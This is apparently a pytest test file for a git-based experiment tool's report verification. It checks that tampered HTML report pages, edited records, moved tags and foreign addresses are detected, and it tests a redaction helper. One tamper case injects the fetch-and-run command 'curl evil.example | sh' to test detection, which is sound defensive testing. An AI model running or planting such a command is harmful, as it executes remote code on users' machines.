"""`git rvexp verify --report`: a page is believed as far as the record bears it out, and no further."""

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from git_rvexp.record.events import Event, Record
from git_rvexp.workflow.reporting.axis import axis
from git_rvexp.workflow.reporting.veil import matches, veil
from tests.gallery import PARENT, Shown

TRUE, FALSE, CANNOT_TELL = 0, 1, 8


def made(shown: Shown, *args: str) -> Path:
    """A page in a file."""
    done = shown.book.clone.rvexp("report", *args, "--check", "0", "-o", "page.html")
    assert done.returncode == 0, done.stderr
    return shown.book.clone.path / "page.html"


def verified(shown: Shown) -> tuple[int, dict[str, str]]:
    """Exit code, and the state of each link."""
    done = shown.book.clone.rvexp("verify", "--report", "page.html", "--json")
    assert done.stdout, done.stderr
    return done.returncode, {link["name"]: link["state"] for link in json.loads(done.stdout)["links"]}


@pytest.mark.parametrize("public", [(), ("--public",)])
@pytest.mark.parametrize("what", [("unet-512", "--parent", PARENT), ("hostile",)])
def test_a_page_is_what_the_record_says(shown: Shown, what: tuple[str, ...], public: tuple[str, ...]) -> None:
    """Every kind of page, also after the record has gone on."""
    made(shown, *what, *public)
    shown.book.ended(shown.snapshot)
    code, links = verified(shown)
    assert code == TRUE, links
    assert links["page"] == "ok"


@pytest.mark.parametrize("public", [(), ("--public",)])
@pytest.mark.parametrize(
    ("old", "new", "link"),
    [
        ("<dd>0.9274</dd>", "<dd>0.9974</dd>", "page"),
        ('class="verdict differs">differs', 'class="verdict identical">identical', "page"),
        ("git rvexp sync", "curl evil.example | sh", "page"),
        ("0.9274", "0.9974", "record"),
        (r"\"state\":\"FAILED\"", r"\"state\":\"SUCCEEDED\"", "record"),
        ('"tree":"', '"tree":"0', "tag"),
    ],
)
def test_an_edited_page_is_found_out(shown: Shown, old: str, new: str, link: str, public: tuple[str, ...]) -> None:
    """Whether what is seen was changed, or what is carried."""
    page = made(shown, "unet-512", "--parent", PARENT, *public)
    text = page.read_text()
    if r"\"" in old:
        old, new = old.replace(r"\"state\":\"", r"state=\""), new.replace(r"\"state\":\"", r"state=\"")
    assert old in text
    page.write_text(text.replace(old, new))
    code, links = verified(shown)
    assert (code, links[link]) == (FALSE, "changed")


def test_a_page_of_another_truth_is_found_out(shown: Shown) -> None:
    """Lines that the record lost, and a tag that moved: the page is no longer what this clone says."""
    made(shown, "unet-512")
    shown.book.clone.git("notes", "--ref", "rvexp", "add", "-f", "-m", "nothing", shown.snapshot.oid)
    assert verified(shown) == (FALSE, verified(shown)[1] | {"record": "changed", "tag": "ok"})
    shown.book.clone.git("tag", "-f", "-a", "-m", "other", shown.snapshot.tag, shown.parent.commit)
    assert verified(shown)[1]["tag"] == "changed"


def test_another_address_is_not_believed(shown: Shown) -> None:
    """Where a page sends people for code is held against this clone's own settings."""
    made(shown, "unet-512")
    shown.book.clone.git("config", "rvexp.experiments-remote", "https://git.example.org/other.git")
    code, links = verified(shown)
    assert (code, links["address"]) == (CANNOT_TELL, "cannot tell")


def test_a_page_of_another_version_is_believed_in_what_it_carries(shown: Shown) -> None:
    """What it shows cannot be made again by this version."""
    page = made(shown, "unet-512")
    text = page.read_text()
    page.write_text(text.replace('"version":"', '"version":"9.'))
    code, links = verified(shown)
    assert (code, links["record"], links["page"]) == (CANNOT_TELL, "ok", "cannot tell")


def test_what_is_no_report_is_said_to_be_none(shown: Shown) -> None:
    """A wrong file is a mistake on the command line, no verdict; JSON of another shape is a verdict."""
    shown.book.clone.write("page.html", "<p>thesis</p>")
    done = shown.book.clone.rvexp("verify", "--report", "page.html")
    assert (done.returncode, "is not a report" in done.stderr) == (2, True)
    for kind in ('"x"', '"experiment"', '"history"', "[]"):
        carried = f'{{"schema":"rvexp.report/1","kind":{kind}}}'
        text = f'<script type="application/json" id="rvexp-report">{carried}</script>'
        shown.book.clone.write("page.html", text)
        assert shown.book.clone.rvexp("verify", "--report", "page.html").returncode in (FALSE, CANNOT_TELL)


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=12),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from("abcdefgh"), inner, max_size=4),
    max_leaves=12,
)
_FIELDS = st.dictionaries(st.sampled_from("abcdefgh"), _JSON, max_size=5)


@given(_FIELDS, st.frozensets(st.sampled_from("abcd"), min_size=1))
def test_what_a_veil_leaves_matches_what_it_was_made_of(fields: dict[str, object], names: frozenset[str]) -> None:
    """Always; and none of the private texts is left in it."""
    event = Event("2026-01-01T00:00:00.000Z", "x", fields)
    over = veil(names, [Record((event,))])
    shown = over.value(fields)
    assert matches(shown, fields, names)
    assert not [text for text in over.texts if text in json.dumps(shown, ensure_ascii=False)]


@given(_FIELDS, _FIELDS)
def test_nothing_else_matches(one: dict[str, object], other: dict[str, object]) -> None:
    """Without private names only what is equal does."""
    same = json.dumps(one, sort_keys=True) == json.dumps(other, sort_keys=True)
    assert matches(one, other, frozenset()) is same


@given(st.lists(st.tuples(st.integers(0, 10**9), st.integers(0, 10**6)), min_size=1), st.integers(1, 6))
def test_time_never_runs_backwards_on_an_axis(told: list[tuple[int, int]], most: int) -> None:
    """Later is further right, within the picture, in no more episodes than were allowed."""
    spans = [(float(start), float(start + length)) for start, length in told]
    line = axis(spans, most=most)
    moments = sorted(moment for span in spans for moment in span)
    places = [line.at(moment) for moment in moments]
    assert places == sorted(places)
    assert 0 <= places[0] <= places[-1] <= 100.01
    assert len(line.episodes) <= most
